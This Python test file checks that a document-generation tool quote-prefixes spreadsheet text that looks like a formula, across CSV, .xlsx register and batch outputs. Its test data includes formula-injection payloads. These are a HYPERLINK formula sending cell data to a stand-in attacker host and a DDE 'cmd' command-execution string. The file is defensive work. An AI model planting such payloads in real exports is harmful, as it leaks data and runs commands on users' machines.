"""Spreadsheet cells that start like a formula (= + - @, tab, CR) are written
with a quote prefix: in CSV an apostrophe, in .xlsx the cell's quotePrefix
style; the register's .xlsx and the batch's CSVs and sheets all use it."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from docgen.batch import load_template, read_units, run_batch
from docgen.batch.example import example_sheet_bytes
from docgen.batch.official_units import OfficialUnit
from docgen.sheets.cell_text import csv_cell, set_text
from docgen.sheets.register_sheet import COLUMNS, HEADER_ROW, register_xlsx

from .batch.helpers import HEADER, TEMPLATE_XA, csv_bytes, read_csv_member, unit_row

DANGEROUS = ['=HYPERLINK("http://tan-cong.example/?d="&A1,"Bấm vào")', "+1+2", "-3+4", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cell_quotes_text_that_starts_like_a_formula(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Xã Ia Kha", "Số 1 = 2", "", "SUM(A1)", "'=1", 12, -5, 1.5, None])
def test_csv_cell_leaves_other_values(value):
    assert csv_cell(value) == value


def _cell_xml(content: bytes) -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode("utf-8")


@pytest.mark.parametrize("text", DANGEROUS)
def test_xlsx_text_is_text_with_a_quote_prefix(text):
    book = Workbook()
    set_text(book.active["A1"], text)
    set_text(book.active["A2"], "Xã Ia Kha")
    set_text(book.active["A3"], -5)
    out = io.BytesIO()
    book.save(out)
    assert "<f>" not in _cell_xml(out.getvalue())  # never a formula
    sheet = load_workbook(out).active
    assert sheet["A1"].value == text and sheet["A1"].data_type == "s" and sheet["A1"].quotePrefix
    assert sheet["A2"].value == "Xã Ia Kha" and not sheet["A2"].quotePrefix
    assert sheet["A3"].value == -5 and sheet["A3"].data_type == "n"


def test_the_register_sheet_quotes_subject_and_search():
    person = SimpleNamespace(full_name="=Nguyễn Văn An")
    entry = SimpleNamespace(
        number=1, symbol="KH-UBND", number_text="01/KH-UBND", issued_on=dt.date(2026, 12, 6), type_name="Kế hoạch",
        subject='=HYPERLINK("http://tan-cong.example","Xem")', signer="@SUM(A1)", recipients=3,
        issued_by=person, issued_at=dt.datetime(2026, 12, 6, 3, 0, tzinfo=dt.timezone.utc),
        sha256="ab" * 32, recall=None, replaces=None, replaced_by=None)
    content = register_xlsx("UBND xã Ia Kha", [entry], searched="-cmd|' /C calc'!A0")
    assert "<f>" not in _cell_xml(content)
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].value == "-cmd|' /C calc'!A0" and sheet["A2"].quotePrefix
    row = HEADER_ROW + 1
    column = {title: number for number, (title, _) in enumerate(COLUMNS, start=1)}
    subject, signer = sheet.cell(row, column["Trích yếu nội dung"]), sheet.cell(row, column["Người ký"])
    clerk = sheet.cell(row, column["Văn thư"])
    assert subject.value == entry.subject and subject.quotePrefix
    assert signer.value == "@SUM(A1)" and signer.quotePrefix
    assert clerk.value == "=Nguyễn Văn An" and clerk.quotePrefix
    assert not sheet.cell(row, column["Ký hiệu"]).quotePrefix  # "KH-UBND": not a formula


def test_batch_manifest_and_error_report_quote_unit_names():
    rows = [HEADER,
            unit_row('=HYPERLINK("http://tan-cong.example","Xã A")'),
            unit_row("@SUM(1+1)", "12a", 1),  # refused: goes to loi.csv
            unit_row("+Xã C"),
            unit_row("-Xã D")]
    out = io.BytesIO()
    # a CSV: what it holds is text (an .xlsx would hold these as formulas, refused as uncomputed)
    run_batch(load_template(TEMPLATE_XA), read_units("u.csv", csv_bytes(rows)), out, workers=1)
    archive = zipfile.ZipFile(out)
    manifest = {r[0]: r[1] for r in read_csv_member(archive, "manifest.csv")[1:]}
    assert manifest == {"2": '\'=HYPERLINK("http://tan-cong.example","Xã A")', "3": "'@SUM(1+1)",
                        "4": "'+Xã C", "5": "'-Xã D"}
    errors = read_csv_member(archive, "loi.csv")
    assert errors[1][:3] == ["3", "Chỉ tiêu", "'@SUM(1+1)"]
    raw = archive.read("manifest.csv").decode("utf-8-sig")
    assert not any(line.split(",")[1].startswith(("=", "@", "+", "-")) for line in raw.splitlines()[1:])


def test_the_units_sheet_quotes_its_text():
    unit = OfficialUnit("99999", "=1+1", "xã", "Tỉnh Gia Lai")
    sheet = load_workbook(io.BytesIO(example_sheet_bytes([unit]))).active
    assert sheet["A2"].value == "=1+1" and sheet["A2"].quotePrefix and sheet["A2"].data_type == "s"
